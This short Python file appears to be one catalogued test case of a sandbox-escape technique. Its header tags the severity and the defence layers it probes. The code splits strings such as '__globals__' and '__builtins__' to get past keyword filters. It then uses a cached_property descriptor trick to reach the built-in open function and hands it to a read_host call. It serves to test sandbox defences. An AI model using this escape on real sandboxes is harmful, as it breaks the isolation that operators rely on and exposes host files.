# technique: a cached property asks a type's descriptor from the library's own frame
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
import functools
import json

def trick():
    cached = functools.cached_property(vars(type(won))["__glo" + "bals__"].__get__)
    cached.attrname = "found"
    return cached.__get__(json.dumps)["__built" + "ins__"]["open"]

read_host(trick)
